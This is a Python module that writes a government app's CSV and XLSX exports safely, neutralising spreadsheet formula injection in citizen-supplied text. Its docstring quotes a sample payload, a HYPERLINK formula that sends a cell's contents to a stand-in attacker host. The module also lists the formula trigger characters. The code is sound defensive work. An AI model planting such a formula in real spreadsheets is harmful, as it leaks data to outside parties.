"""The one writer behind every CSV and XLSX file HaiLong hands out (issue 11 §1, docs/security.md).

Comments come from anonymous citizens and unit/agency names from administrators; a cell such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` must never become a live formula in the spreadsheet a
Home Affairs official opens.  OWASP's rule: a text cell starting with `=`, `+`, `-`, `@`, tab or carriage
return is written as text — in CSV with a leading `'`, in XLSX as a cell whose data type is forced to
string (openpyxl would otherwise store it as a formula).  Numbers (int, float, Decimal — negative ones too)
stay numbers, and so does a text cell that is just a plain number ("-5", "3.25").

Readers of files we wrote (org tree import, admin uploads) undo the CSV prefix with `unneutralise`, so an
export reads back unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?")
# characters XML 1.0 (hence XLSX) cannot hold; openpyxl raises on them
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def dangerous(value: Any) -> bool:
    """True for a text value a spreadsheet would read as a formula (or a DDE/command trigger)."""
    return (isinstance(value, str) and value[:1] in TRIGGERS
            and not _PLAIN_NUMBER.fullmatch(value))


def neutralise(value: Any) -> Any:
    """A CSV cell: dangerous text gets OWASP's leading `'`; everything else unchanged."""
    return "'" + value if dangerous(value) else value


def unneutralise(value: str) -> str:
    """Undo `neutralise` when reading a CSV we may have written (a `'` before a trigger character)."""
    if value[:1] == "'" and value[1:2] in TRIGGERS:
        return value[1:]
    return value


def csv_row(row: Iterable[Any]) -> list[Any]:
    """One CSV row: None as an empty cell, dangerous text neutralised."""
    return ["" if v is None else neutralise(v) for v in row]


class SafeCsvWriter:
    """`csv.writer` with every row passed through `csv_row` — the only CSV writer exports use."""

    def __init__(self, fh: IO[str], **kwargs: Any) -> None:
        self._w = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: IO[str], **kwargs: Any) -> SafeCsvWriter:
    """A safe writer on an open text file (arguments as for `csv.writer`)."""
    return SafeCsvWriter(fh, **kwargs)


def csv_text(rows: Iterable[Iterable[Any]], *, bom: bool = False, lineterminator: str = "\r\n") -> str:
    """A whole CSV document; `bom` prepends U+FEFF so Excel opens UTF-8 Vietnamese correctly."""
    buf = io.StringIO(newline="")
    csv_writer(buf, lineterminator=lineterminator).writerows(rows)
    return ("\ufeff" if bom else "") + buf.getvalue()


def xlsx_cell(ws: Any, value: Any) -> Any:
    """An openpyxl cell for `value`: text is always a string cell (never a formula), stripped of characters
    XML cannot hold; numbers and dates as openpyxl types them."""
    from openpyxl.cell.cell import Cell

    if isinstance(value, str):
        value = _ILLEGAL_XML.sub("", value)
        cell = Cell(ws, value=None)
        cell._value = value  # bypass openpyxl's "starts with = → formula" guess
        cell.data_type = "s"
        return cell
    return Cell(ws, value=value)


def append_row(ws: Any, row: Sequence[Any]) -> None:
    """`ws.append(row)` with every cell made by `xlsx_cell`."""
    ws.append([xlsx_cell(ws, v) for v in row])
